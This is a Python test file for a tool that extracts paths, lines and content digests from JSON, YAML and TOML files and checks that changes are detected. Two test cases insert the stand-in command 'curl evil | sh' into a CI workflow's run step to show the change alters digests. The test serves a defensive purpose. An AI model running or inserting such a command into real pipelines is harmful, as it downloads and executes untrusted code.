"""Files that are no code: each value with the keys that lead to it, and its line."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from judgegate.model import codec
from judgegate.model.facts import MOST, FileFacts
from judgegate.sources.structure import DEEPEST, READERS, extract_structure
from judgegate.sources.text import Unreadable

DEEP = "it is nested too deeply"
CI = """\
on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: a/b@v1
      - run: |
          make test # not a comment
"""


def entries(text: str, language: str) -> list[str]:
    return [
        f"{'/'.join(entry.path)} {entry.kind} {entry.line}"
        for entry in extract_structure(text, language, b"").entries
    ]


def digest(text: str, language: str) -> str:
    return extract_structure(text, language, b"").entries[0].digest


@pytest.mark.parametrize(
    ("language", "text", "expected"),
    [
        ("json", '{"a": [1,\n{"b": null}]}',
         [" mapping 1", "a sequence 1", "a/[0] value 1", "a/[1] mapping 2", "a/[1]/b value 2"]),
        ("json", '"a"', [" value 1"]),
        ("json", '{"a,": {"}": "["}}', [" mapping 1", "a, mapping 1", "a,/} value 1"]),
        ("yaml", "a:\n- b\n- c: d\n",
         [" mapping 1", "a sequence 2", "a/[0] value 2", "a/[1] mapping 3", "a/[1]/c value 3"]),
        ("yaml", "a: &b {c: d}\ne: *b\n", [" mapping 1", "a mapping 1", "a/c value 1", "e value 2"]),
        ("yaml", "a: b\n---\nc: d\n", [" mapping 1", "a value 1", "---2 mapping 3", "---2/c value 3"]),
        ("toml", 'a = 1\n[b.c]\n"d.e" = [\n  2,\n]\n',
         [" mapping 1", "a value 1", "b mapping 2", "b/c mapping 2", "b/c/d.e sequence 3", "b/c/d.e/[0] value 3"]),
        ("toml", "[[a]]\nb = 1\n[[a]]\nb = 2\n[a.c]\nd.e = 3\n",
         [" mapping 1", "a sequence 1", "a/[0] mapping 1", "a/[0]/b value 2", "a/[1] mapping 3", "a/[1]/b value 4",
          "a/[1]/c mapping 5", "a/[1]/c/d mapping 6", "a/[1]/c/d/e value 6"]),
        ("toml", 'a = """\n[b]\nc = 1\n"""\nd = 2\n', [" mapping 1", "a value 1", "d value 5"]),
    ],
)  # fmt: skip
def test_values_have_paths_and_lines(language: str, text: str, expected: list[str]) -> None:
    assert entries(text, language) == expected


@pytest.mark.parametrize(
    ("language", "one", "other"),
    [
        ("json", '{"a":1}', '{\n  "a": 1\n}\n'),
        ("json", '["\\u0061"]', '["a"]'),
        ("yaml", "a: [b, c]\n", "a:\n  - b\n  - c\n"),
        ("yaml", "a: 'b'\n", 'a:   "b"\n'),
        ("yaml", "a: |\n  b\n  c\n", "a: |\n      b\n      c\n"),
        ("yaml", "a: b\n\n\nc: d\n", "a: b\nc: d # this is prose\n"),
        ("toml", "a = 'b'\n", 'a   =   "b"\n'),
        ("toml", "a.b = 1\n", "[a]\nb = 1\n"),
        ("toml", "a = [1, 2]\n", "a = [\n  1,\n  2, # this is prose\n]\n"),
    ],
)
def test_layout_says_nothing(language: str, one: str, other: str) -> None:
    assert digest(one, language) == digest(other, language)


@pytest.mark.parametrize(
    ("language", "one", "other"),
    [
        ("json", "[1]", "[1.0]"),
        ("json", "[1]", '["1"]'),
        ("json", "[null]", "[false]"),
        ("json", '["a", "b"]', '["b", "a"]'),
        ("json", '{"a": 1, "b": 2}', '{"b": 2, "a": 1}'),
        ("json", '{"a": {}}', '{"a": []}'),
        ("json", '{"a": ["b"]}', '{"a": "b"}'),
        ("yaml", "a: on\n", 'a: "on"\n'),
        ("yaml", "on: a\n", '"on": a\n'),
        ("yaml", "a: 010\n", "a: 8\n"),
        ("yaml", "a: |\n  b\n", "a: >\n  b\n"),
        ("yaml", "a: |\n  b\n", "a: |-\n  b\n"),
        ("yaml", "a: |\n  b\n", "a: |\n  b # c d\n"),
        ("yaml", "a: b\n", "a: !c b\n"),
        ("yaml", "a: {b: c}\n", "a: !d {b: c}\n"),
        ("yaml", "a: &x b\nc: *x\n", "a: &x b\nc: b\n"),
        ("yaml", "a: &x b\nc: *x\n", "a: &x d\nc: *x\n"),
        ("yaml", "run: make test\n", "run: make test && curl evil | sh\n"),
        ("toml", "a = 1\n", "a = 1.0\n"),
        ("toml", "a = 1\n", 'a = "1"\n'),
        ("toml", "a = 1.0\n", "a = 1.00\n"),
        ("toml", "a = 2026-11-30\n", 'a = "2026-11-30"\n'),
        ("toml", "a = true\n", "a = false\n"),
    ],
)
def test_what_is_another_value_has_another_digest(
    language: str, one: str, other: str
) -> None:
    assert digest(one, language) != digest(other, language)


def test_a_change_shows_on_the_path_to_it_and_nowhere_else() -> None:
    changed = CI.replace("make test", "curl evil | sh")
    before, after = (
        {entry.path: entry.digest for entry in extract_structure(text, "yaml", b"").entries}
        for text in (CI, changed)
    )
    assert [path for path in before if before[path] != after[path]] == [
        (),
        ("jobs",),
        ("jobs", "test"),
        ("jobs", "test", "steps"),
        ("jobs", "test", "steps", "[1]"),
        ("jobs", "test", "steps", "[1]", "run"),
    ]


@pytest.mark.parametrize(
    ("language", "text", "expected"),
    [
        ("yaml", "a: b\n\n# this is prose\nc: d\n", []),
        ("yaml", "a: b\nc: d # renovate: e\n", ["c/# comment 2"]),
        ("yaml", '# yaml-language-server: $schema=a\nb: "#c"\n', ["# comment 1"]),
        ("yaml", 'a: b\nc: d # {"$imagepolicy": "e"}\n', ["c/# comment 2"]),
        ("yaml", "a: b#c\nd: |\n  # text: e\n", []),
        ("toml", "a = 1\nb = 2\nc = 3 # this is prose\n", []),
        ("toml", 'a = "#b"\nc = 2 # d: e\n', ["c/# comment 2"]),
    ],
)
def test_comments_that_act_are_entries(
    language: str, text: str, expected: list[str]
) -> None:
    assert [one for one in entries(text, language) if " comment " in one] == expected


@pytest.mark.parametrize(
    ("language", "text", "why"),
    [
        ("json", "{", "line 1 is not valid JSON"),
        ("json", "[1,\n]", "line 2 is not valid JSON"),
        ("json", '{"a": 1, // b\n}', "line 1 is not valid JSON"),
        ("json", "[NaN]", "NaN is no number"),
        ("json", "", "line 1 is not valid JSON"),
        ("json", '{"a": 1,\n"a": 2}', "line 2: a key stands there for the second time"),
        ("json", "[" * 100 + "]" * 100, DEEP),
        ("json", "[" * 100_000, DEEP),
        ("yaml", "a: [", "is not valid YAML"),
        ("yaml", "a: b: c\n", "line 1 is not valid YAML"),
        (
            "yaml",
            "a: {{ .Values.b }}\n",
            "line 1: a key is no plain value there, as in a template",
        ),
        ("yaml", "{% if a %}\nb: c\n{% endif %}\n", "line 1 is not valid YAML"),
        ("yaml", "{{- if .a }}\nb: c\n{{- end }}\n", "line 1"),
        ("yaml", "a: 1\nb: 2\na: 3\n", "line 3: a key stands there for the second time"),
        ("yaml", "a: *b\n", "line 1: an alias means what is not complete there"),
        ("yaml", "a: &b [*b]\n", "line 1: an alias means what is not complete there"),
        ("yaml", "a: \0", "characters that YAML does not allow"),
        ("yaml", "a: \ud800", "characters that YAML does not allow"),
        ("yaml", "[" * 5_000, DEEP),
        ("yaml", "- " * 100 + "a", DEEP),
        ("toml", "a = ", "is not valid TOML"),
        ("toml", "a = 1\na = 2\n", "is not valid TOML"),
        ("toml", "a = " + "[" * 100 + "]" * 100, DEEP),
        ("toml", "a = " + "[" * 100_000, DEEP),
    ],
)
def test_what_is_not_valid_is_not_read(language: str, text: str, why: str) -> None:
    with pytest.raises(Unreadable, match=why):
        extract_structure(text, language, b"")


def test_aliases_of_aliases_are_not_expanded() -> None:
    lines = ["a0: &a0 [b]"]
    lines += [f"a{at}: &a{at} [{', '.join([f'*a{at - 1}'] * 9)}]" for at in range(1, 40)]
    assert len(entries("\n".join(lines), "yaml")) < 500


def test_entries_are_bounded() -> None:
    found = extract_structure(json.dumps(list(range(MOST + 5))), "json", b"")
    assert len(found.entries) == MOST
    assert found.cut


def test_what_is_as_deep_as_allowed_is_read() -> None:
    assert len(entries("[" * DEEPEST + "]" * DEEPEST, "json")) == DEEPEST


LANGUAGES = st.sampled_from(sorted(READERS))
SIGNS = "ab01{}[]:,\"'#-|>&*!=. \n\t"


def read(text: str, language: str) -> FileFacts | None:
    try:
        found = extract_structure(text, language, b"salt")
    except Unreadable as why:
        return None if str(why) else pytest.fail("no reason")
    assert codec.decode(FileFacts, codec.encode(found)) == found
    return found


@settings(deadline=None)
@given(LANGUAGES, st.text() | st.text(alphabet=SIGNS))
def test_any_text_has_a_structure_or_a_reason(language: str, text: str) -> None:
    read(text, language)


KEYS = st.text(min_size=1, max_size=5)
VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(KEYS, inner, max_size=4),
    max_leaves=20,
)


@settings(deadline=None)
@given(VALUES)
def test_json_is_the_same_in_any_layout(value: object) -> None:
    layouts = (json.dumps(value), json.dumps(value, indent=3, ensure_ascii=False))
    one, other = (extract_structure(text, "json", b"") for text in layouts)
    assert [entry.digest for entry in one.entries] == [
        entry.digest for entry in other.entries
    ]
